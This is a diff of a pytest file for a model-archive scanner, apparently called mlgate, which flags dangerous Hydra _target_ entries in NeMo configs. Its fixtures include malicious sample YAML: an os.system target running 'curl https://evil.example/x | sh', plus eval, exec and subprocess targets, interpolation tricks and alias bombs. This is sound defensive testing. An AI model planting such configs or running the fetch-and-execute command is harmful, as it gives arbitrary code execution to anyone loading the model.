@@ -17,13 +17,16 @@ optim:
   name: adamw
   sched: {_target_: nemo.core.optim.lr_scheduler.CosineAnnealing, warmup_steps: 1000}
 """
-EVIL = BENIGN + b"""decoder:
+EVIL = (
+    BENIGN
+    + b"""decoder:
   _target_: "os.system"
   command: curl https://evil.example/x | sh
 preprocessor: {"_target_": 'builtins.exec.__call__', "source": "import os"}
 again:
   _target_: os.system
 """
+)
 
 
 def test_dangerous_targets_in_a_nemo_archive_are_critical_at_the_name(scan_tree):
@@ -142,12 +145,20 @@ def test_interpolations_are_resolved_before_the_target_is_judged(scan_tree, conf
 @pytest.mark.parametrize(
     ("config", "value", "severity", "message"),
     [
-        (b"model:\n  _target_: ${oc.env:TARGET}\n", b"${oc", "HIGH",
-         "Hydra _target_ '${oc.env:TARGET}' is built by interpolation mlgate cannot resolve (resolver oc.env): "
-         "hydra.utils.instantiate imports and calls whatever it resolves to, which cannot be checked"),
-        (b"model:\n  _target_: os.${oc.env:FN,system}\n", b"os.", "CRITICAL",
-         "Hydra _target_ 'os.${oc.env:FN,system}' is built by interpolation (resolver oc.env); whatever it resolves to, "
-         "os.UNRESOLVED runs processes or shell commands"),
+        (
+            b"model:\n  _target_: ${oc.env:TARGET}\n",
+            b"${oc",
+            "HIGH",
+            "Hydra _target_ '${oc.env:TARGET}' is built by interpolation mlgate cannot resolve (resolver oc.env): "
+            "hydra.utils.instantiate imports and calls whatever it resolves to, which cannot be checked",
+        ),
+        (
+            b"model:\n  _target_: os.${oc.env:FN,system}\n",
+            b"os.",
+            "CRITICAL",
+            "Hydra _target_ 'os.${oc.env:FN,system}' is built by interpolation (resolver oc.env); whatever it resolves to, "
+            "os.UNRESOLVED runs processes or shell commands",
+        ),
         (b"model:\n  _target_: ${my_resolver:x}.system\n", b"${my", "CRITICAL", None),
         (b"model:\n  _target_: ${nowhere.fn}\n", b"${now", "HIGH", None),
         (b"a: ${b}\nb: ${a}\nmodel:\n  _target_: ${a}\n", b"${a}\n", "HIGH", None),
@@ -163,12 +174,15 @@ def test_targets_that_cannot_be_resolved_are_judged_worst(scan_tree, config, val
 
 
 def test_nemo_target_keys_and_duplicate_keys(scan_tree):
-    config = b"target: os.system\nmodel:\n  cls: subprocess.Popen\n  params: {}\nloss:\n  target: labels\n  class: code\n" \
-             b"head:\n  _target_: builtins.eval\n  _target_: torch.nn.Linear\n"
+    config = (
+        b"target: os.system\nmodel:\n  cls: subprocess.Popen\n  params: {}\nloss:\n  target: labels\n  class: code\n"
+        b"head:\n  _target_: builtins.eval\n  _target_: torch.nn.Linear\n"
+    )
     scan = nemo_scan(scan_tree, config)
     assert hits(scan) == [("MOD014", "m.nemo", "model_config.yaml", config.index(name)) for name in (b"os.", b"subprocess", b"builtins")]
     assert scan.messages("MOD014")[0] == (
-        "Hydra target os.system is called when the model is restored (NeMo's import_class_by_path): runs processes or shell commands")
+        "Hydra target os.system is called when the model is restored (NeMo's import_class_by_path): runs processes or shell commands"
+    )
 
 
 def test_benign_interpolations_are_quiet(scan_tree):
@@ -201,7 +215,9 @@ def test_string_bombs_and_alias_bombs_stay_bounded(scan_tree, monkeypatch):
     config = b"\n".join(lines) + b"\nmodel:\n  _target_: ${a40}\n"
     scan = nemo_scan(scan_tree, config)
     assert hits(scan) == critical(config, b"${a40}")
-    assert scan.messages("MOD014")[0].endswith("(a value longer than mlgate resolves): hydra.utils.instantiate imports and calls whatever it resolves to, which cannot be checked")
+    assert scan.messages("MOD014")[0].endswith(
+        "(a value longer than mlgate resolves): hydra.utils.instantiate imports and calls whatever it resolves to, which cannot be checked"
+    )
 
     monkeypatch.setattr(hydra_configs, "MAX_PLACES", 50)
     levels = [b"l0a: &l0a {_target_: '${.f}', f: os.system}", b"l0b: &l0b {x: 1}"]
